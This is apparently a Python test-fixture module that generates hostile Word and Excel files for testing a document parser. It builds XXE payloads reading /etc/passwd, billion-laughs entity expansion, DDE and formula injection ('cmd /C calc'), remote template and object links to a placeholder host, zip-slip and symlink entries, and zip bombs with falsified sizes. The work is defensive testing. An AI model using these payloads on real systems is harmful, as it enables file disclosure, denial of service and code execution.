"""Word files and workbooks: parts by hand in a zip, so that any of them can lie."""

import io
import struct
import warnings
import zipfile
from collections.abc import Iterable
from random import Random

from tests.hostile.makers.registry import made, plain

WHEN = (2024, 5, 20, 8, 0, 0)
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DECLARED = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 '哈哈'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
FORMULA = "=cmd|' /C calc'!A1"


def zipped(parts: Iterable[tuple[str | zipfile.ZipInfo, bytes | str]], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of these, the same each time; a name may come twice."""
    target = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(target, "w", how) as made_:
        warnings.simplefilter("ignore", UserWarning)
        for name, body in parts:
            info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, WHEN)
            info.compress_type = how
            made_.writestr(info, body)
    return target.getvalue()


def link(name: str) -> zipfile.ZipInfo:
    """An entry that is a symbolic link."""
    info = zipfile.ZipInfo(name, WHEN)
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return info


def types(main: str, kind: str) -> tuple[str, str]:
    """[Content_Types].xml."""
    return "[Content_Types].xml", (
        f'{DECLARED}<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{main}" ContentType="{kind}"/></Types>'
    )


def relations(*rows: tuple[str, str, str], external: bool = False) -> str:
    """A part of relationships: (id, kind, target)."""
    mode = ' TargetMode="External"' if external else ""
    return f'{DECLARED}<Relationships xmlns="{RELS}">' + "".join(
        f'<Relationship Id="{at}" Type="{KIND}/{kind}" Target="{target}"{mode}/>' for at, kind, target in rows
    ) + "</Relationships>"  # fmt: skip


def word(body: str = "", *, dtd: str = "", more: Iterable[tuple[str | zipfile.ZipInfo, bytes | str]] = (), kind: str = "") -> bytes:
    """A Word file with this body."""
    main = kind or "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return zipped([
        types("word/document.xml", main), ("_rels/.rels", relations(("r1", "officeDocument", "word/document.xml"))),
        ("word/document.xml", f'{DECLARED}{dtd}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'), *more])  # fmt: skip


def book(rows: str = "", *, dtd: str = "", more: Iterable[tuple[str | zipfile.ZipInfo, bytes | str]] = (), strings: str = "", kind: str = "",
         after: str = "") -> bytes:  # fmt: skip
    """A workbook of one sheet with these rows."""
    main = kind or "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    related = (("r1", "worksheet", "worksheets/sheet1.xml"), *((("r2", "sharedStrings", "sharedStrings.xml"),) if strings else ()))
    parts = [
        types("xl/workbook.xml", main), ("_rels/.rels", relations(("r1", "officeDocument", "xl/workbook.xml"))),
        ("xl/workbook.xml", f'{DECLARED}<workbook xmlns="{SHEET}" xmlns:r="{KIND}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels", relations(*related)),
        ("xl/worksheets/sheet1.xml", f'{DECLARED}{dtd if not strings else ""}<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData>{after}</worksheet>'),
    ]  # fmt: skip
    if strings:
        parts.append(("xl/sharedStrings.xml", f'{DECLARED}{dtd}<sst xmlns="{SHEET}">{strings}</sst>'))
    return zipped([*parts, *more])


def row(number: int, *cells: str) -> str:
    """A row of text cells."""
    return f'<row r="{number}">' + "".join(
        f'<c r="{chr(65 + at)}{number}" t="inlineStr"><is><t>{text}</t></is></c>' for at, text in enumerate(cells)
    ) + "</row>"  # fmt: skip


def table(*rows: Iterable[str]) -> str:
    """A Word table."""
    cells = "".join("<w:tr>" + "".join(f"<w:tc>{paragraph(c)}</w:tc>" for c in cells) + "</w:tr>" for cells in rows)
    return f"<w:tbl>{cells}</w:tbl>"


def paragraph(text: str) -> str:
    """A line of text."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def grown(body: bytes, name: bytes, size: int) -> bytes:
    """The archive says of this entry that it is only `size` large unpacked, in both its places."""
    changed, at = bytearray(body), 0
    while (at := changed.find(name, at)) >= 0:
        for mark, place in ((b"PK\x03\x04", at - 30 + 22), (b"PK\x01\x02", at - 46 + 24)):
            begun = at - (30 if mark == b"PK\x03\x04" else 46)
            if begun >= 0 and changed[begun : begun + 4] == mark:
                struct.pack_into("<I", changed, place, size)
        at += 1
    return bytes(changed)


HEAD = ("序号", "设区市", "区县", "企业名称", "统一社会信用代码", "姓名")  # a summary table, a list and a sheet of accounts at once
FIRST = ("1", "九江市", "都昌县", "演示甲有限公司", "", "张三（演示）")
GRID = table(HEAD, FIRST)
ROWS = row(1, *HEAD) + row(2, *FIRST)
MACRO = "application/vnd.ms-{}.main+xml"
HTTP = "http://192.0.2.1/x"

plain("macro.docx", word(GRID, more=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")], kind=MACRO.format("word.document.macroEnabled")))
plain("macro.xlsx", book(ROWS, more=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")], kind=MACRO.format("excel.sheet.macroEnabled")))
plain("macro_by_another_name.xlsx", book(ROWS, more=[("xl/data.bin", b"\xd0\xcf\x11\xe0")], kind=MACRO.format("excel.sheet.macroEnabled")))
plain("macro_sheet.xlsx", book(ROWS, more=[("xl/macrosheets/sheet1.xml", "<x/>")]))
plain("control.docx", word(GRID, more=[("word/activeX/activeX1.xml", "<x/>"), ("word/activeX/activeX1.bin", b"x")]))
plain(
    "template_from_afar.docx",
    word(GRID, more=[("word/_rels/settings.xml.rels", relations(("r1", "attachedTemplate", HTTP + ".dotm"), external=True))]),
)
plain("template_from_a_share.docx", word(GRID, more=[
    ("word/_rels/settings.xml.rels", relations(("r1", "attachedTemplate", "file:///\\\\192.0.2.1\\x.dotm"), external=True))]))  # fmt: skip
plain("object_from_afar.docx", word(GRID, more=[("word/_rels/document.xml.rels", relations(("r1", "oleObject", HTTP), external=True))]))
plain("frame_from_afar.docx", word(GRID, more=[("word/_rels/webSettings.xml.rels", relations(("r1", "frame", HTTP), external=True))]))
plain("part_from_afar.docx", word(GRID, more=[("word/_rels/document.xml.rels", relations(("r1", "aFChunk", HTTP), external=True))]))
plain(
    "picture_from_afar.docx", word(GRID, more=[("word/_rels/document.xml.rels", relations(("r1", "image", HTTP + ".png"), external=True))])
)
plain("program_inside.docx", word(GRID, more=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")]))
plain("dde.docx", word(GRID + '<w:p><w:r><w:instrText>DDEAUTO c:\\\\x "y"</w:instrText></w:r></w:p>'))
plain(
    "dde.xlsx",
    book(ROWS, more=[("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd"/></externalLink>')]),
)
plain("query_from_afar.xlsx", book(ROWS, more=[("xl/connections.xml", f'<connections xmlns="{SHEET}"><connection id="1"/></connections>')]))
plain("link_to_another_book.xlsx", book(ROWS, more=[
    ("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{SHEET}"><externalBook/></externalLink>'),
    ("xl/externalLinks/_rels/externalLink1.xml.rels", relations(("r1", "externalLinkPath", "file:///D:/x.xlsx"), external=True))]))  # fmt: skip
plain("formula.xlsx", book(row(1, *HEAD) + f'<row r="2"><c r="D2" t="str"><f>WEBSERVICE("{HTTP}")</f><v>{FORMULA}</v></c></row>'))
plain("xxe.docx", word(paragraph("&e;") + GRID, dtd=XXE))
plain("xxe.xlsx", book(row(1, "名称", "&e;"), dtd=XXE))
plain("xxe_in_strings.xlsx", book('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', strings="<si><t>&e;</t></si>", dtd=XXE))
plain("xxe_from_afar.docx", word(GRID, dtd=f'<!DOCTYPE x SYSTEM "{HTTP}.dtd">'))
plain("laughs.docx", word(paragraph("&a9;") + table(("&a9;",)), dtd=LAUGHS))
plain("laughs.xlsx", book(row(1, "&a9;"), dtd=LAUGHS))
plain("laughs_behind_a_comment.docx", word(table(("&a9;",)), dtd="<!-- " + "x" * 100_000 + " -->" + LAUGHS))
plain("blowup.docx", word(table(("&a;" * 20_000,)), dtd=f"<!DOCTYPE x [<!ENTITY a '{'x' * 50_000}'>]>"))
plain("twice_the_same_part.docx", word(GRID, more=[("word/document.xml", f'<w:document xmlns:w="{WORD}"/>')]))
plain("climbing.docx", word(GRID, more=[("../../x.xml", "x")]))
plain("absolute.xlsx", book(ROWS, more=[("/etc/cron.d/x", "x")]))
plain("link.docx", word(GRID, more=[(link("word/x.xml"), "/etc/passwd")]))
plain("cut_off.docx", word(GRID)[:-200])
plain("old_word.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
plain("only_a_zip.xlsx", zipped([("x.txt", "x")]))
plain("broken_sign.docx", word(table(("名称",)) + '<w:tbl><w:tr><w:tc><w:p><w:r><w:sym w:char="x"/></w:r></w:p></w:tc></w:tr></w:tbl>'))


@made("xxe_in_utf16.docx")
def _utf16(dice: Random) -> bytes:
    text = (
        f'<?xml version="1.0" encoding="UTF-16"?>{XXE}<w:document xmlns:w="{WORD}"><w:body>{paragraph("&e;")}{GRID}</w:body></w:document>'
    )
    return zipped([types("word/document.xml", "x"), ("word/document.xml", text.encode("utf-16"))])


@made("xxe_in_utf7.docx")
def _utf7(dice: Random) -> bytes:
    text = f'{XXE}<w:document xmlns:w="{WORD}"><w:body>{paragraph("&e;")}{GRID}</w:body></w:document>'
    return zipped(
        [types("word/document.xml", "x"), ("word/document.xml", b'<?xml version="1.0" encoding="UTF-7"?>' + text.encode("utf-7"))]
    )


@made("locked.xlsx")
def _locked(dice: Random) -> bytes:
    body = bytearray(book(ROWS))
    at = 0
    while (at := body.find(b"PK\x01\x02", at)) >= 0:
        body[at + 8] |= 1
        at += 4
    return bytes(body)


@made("bomb.docx")
def _word_bomb(dice: Random) -> bytes:
    return word(paragraph(" " * (200 << 20)))


@made("bomb.xlsx")
def _book_bomb(dice: Random) -> bytes:
    return book('<row r="1"><c r="A1"><v>1</v></c></row>' * (5 << 20))


@made("bomb_that_lies.xlsx")
def _lying(dice: Random) -> bytes:
    return grown(book(row(1, "x" * (150 << 20))), b"xl/worksheets/sheet1.xml", 900)


@made("bomb_that_lies.docx")
def _lying_word(dice: Random) -> bytes:
    return grown(word(table(("x" * (150 << 20),))), b"word/document.xml", 900)


@made("bomb_beside.docx")
def _bomb_beside(dice: Random) -> bytes:
    return word(GRID, more=[("word/media/image1.png", bytes(300 << 20))])


@made("bomb_of_size.xlsx")
def _dimension(dice: Random) -> bytes:
    return book('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@made("bomb_of_strings.xlsx")
def _strings(dice: Random) -> bytes:
    """One long string that every cell shows."""
    rows = "".join(f'<row r="{n}">' + '<c t="s"><v>0</v></c>' * 60 + "</row>" for n in range(1, 20_001))
    return book(rows, strings=f"<si><t>{'长' * 30_000}</t></si>")


@made("bomb_of_merges.xlsx")
def _merges(dice: Random) -> bytes:
    merges = "".join('<mergeCell ref="A1:A20000"/>' for _ in range(100_000))
    return book(ROWS, after=f"<mergeCells>{merges}</mergeCells>")


@made("million_rows.xlsx")
def _million(dice: Random) -> bytes:
    return book("".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="B{n}"><v>7</v></c></row>' for n in range(1, 1_000_001)))


@made("deep.docx")
def _deep(dice: Random) -> bytes:
    return word("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000)


@made("tables_in_tables.docx")
def _nested(dice: Random) -> bytes:
    return word("<w:tbl><w:tr><w:tc>" * 60 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 60)


@made("cell_over_a_milliard.docx")
def _span(dice: Random) -> bytes:
    wide = f'<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>{paragraph("宽")}</w:tc>'
    return word(f"<w:tbl><w:tr>{wide * 500}</w:tr></w:tbl>")


@made("twenty_thousand_parts.docx")
def _parts(dice: Random) -> bytes:
    return word(GRID, more=[(f"x/{n}", "") for n in range(20_000)])


# Tags without end, so that whoever looks for their ends by trying goes over all again from each beginning.
plain("tags_without_end.docx", word("<w:br " * 300_000 + "<" * 300_000))
